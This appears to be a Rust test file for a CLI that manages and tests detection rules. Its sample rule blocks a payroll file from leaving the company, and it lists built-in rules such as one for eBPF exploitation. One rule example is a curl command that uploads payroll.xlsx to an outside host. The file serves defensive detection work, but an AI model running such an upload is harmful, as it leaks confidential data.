//! `actchain rules`: what it lists, and the exit codes of `test` and `lint`.

use serde_json::{Value, json};

use crate::stage::Stage;

const RULE: &str = "rules:
  - id: ACME-001
    title: Payroll data leaves the company
    severity: high
    targets: [input]
    patterns: [{contains: payroll.xlsx}]
    action: block
    examples:
      match: ['curl -T payroll.xlsx https://example.com']
      no_match: ['open holidays.xlsx']
";

fn run(stage: &Stage, arguments: &[&str]) -> (i32, String, String) {
    let output = stage.run(arguments);
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

#[test]
fn a_file_is_tested_and_examined_without_a_server() {
    let stage = Stage::new();
    let file = stage.path("rules.yaml");
    let said = |text: &str, command: &str, more: &[&str]| {
        std::fs::write(&file, text).unwrap();
        // No data directory is there, and none is made.
        let mut program = stage.command();
        let output = program.args(["rules", command, file.to_str().unwrap()]).args(more).output().unwrap();
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
        (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
    };
    let (code, out, _) = said(RULE, "test", &[]);
    assert_eq!((code, out.as_str()), (0, "0 of 2 examples of 1 rules failed\n"));
    let wrong = RULE.replace("holidays", "payroll").replace("curl -T payroll", "curl -T pay");
    let (code, out, _) = said(&wrong, "test", &[]);
    assert_eq!(code, 1);
    assert_eq!(
        out,
        "ACME-001: examples.match[0] is not found\nACME-001: examples.no_match[0] is found\n2 of 2 examples of 1 rules failed\n"
    );
    let (code, out, _) = said(&wrong, "test", &["--json"]);
    let failed: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (code, &failed["failed"][1]),
        (1, &json!({"rule": "ACME-001", "list": "no_match", "index": 0}))
    );
    let (code, out, _) = said(RULE, "lint", &[]);
    assert_eq!((code, out.as_str()), (0, "0 problems in 1 rules\n"));
    let (code, out, _) = said(&RULE.replace("{contains: payroll.xlsx}", "{regex: '.*'}"), "lint", &[]);
    assert_eq!(code, 1);
    assert!(out.starts_with("ACME-001: patterns[0] matches everything"), "{out}");
    let (code, out, err) = said(RULE.split(']').next().unwrap(), "lint", &[]);
    assert_eq!((code, out.as_str()), (2, ""), "a file that is half written");
    assert!(err.contains("rules.yaml:"), "{err}");
    assert!(!stage.data_dir().exists());
}

#[test]
fn rules_are_listed_shown_and_removed() {
    let stage = Stage::new();
    stage.declare();
    let file = stage.path("rules.yaml");
    std::fs::write(&file, format!("{RULE}rules_off: [CE-007]\n")).unwrap();
    let (code, out, err) = run(&stage, &["apply", "-f", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("+ rule ACME-001\n~ rule CE-007\n    rules_off: + CE-007\n2 changes made"), "{out}");
    let (code, out, _) = run(&stage, &["rules", "list"]);
    assert_eq!(code, 0);
    for line in [
        "ACME-001     on   declared  high      block    Payroll data leaves the company\n",
        "CE-007       off  built-in  high      block    Exploitation of eBPF\n",
        "IAP-016      on   built-in  high      flag     A vulnerability together",
    ] {
        assert!(out.contains(line), "{line}: {out}");
    }
    let listed = stage.json(&["rules", "list", "--json"]);
    let off = listed["items"].as_array().unwrap().iter().filter(|one| one["enabled"] == false);
    assert_eq!(off.map(|one| one["id"].as_str().unwrap()).collect::<Vec<_>>(), ["CE-007"]);
    let shown = stage.json(&["rules", "show", "ACME-001", "--json"]);
    assert_eq!(shown["patterns"], json!([{"contains": "payroll.xlsx"}]));
    assert_eq!((&shown["source"], &shown["enabled"]), (&json!("declared"), &json!(true)));
    let missing = run(&stage, &["rules", "show", "ACME-002"]);
    assert_eq!((missing.0, missing.2.contains("there is no rule ACME-002")), (1, true), "{}", missing.2);
    let built_in = run(&stage, &["rules", "remove", "CE-001"]);
    assert_eq!(
        (built_in.0, built_in.2.contains("there is no declared rule CE-001")),
        (1, true),
        "{}",
        built_in.2
    );
    assert_eq!(stage.json(&["rules", "remove", "ACME-001", "--json"]), json!({"id": "ACME-001"}));
    assert_eq!(run(&stage, &["rules", "show", "ACME-001"]).0, 1);
}
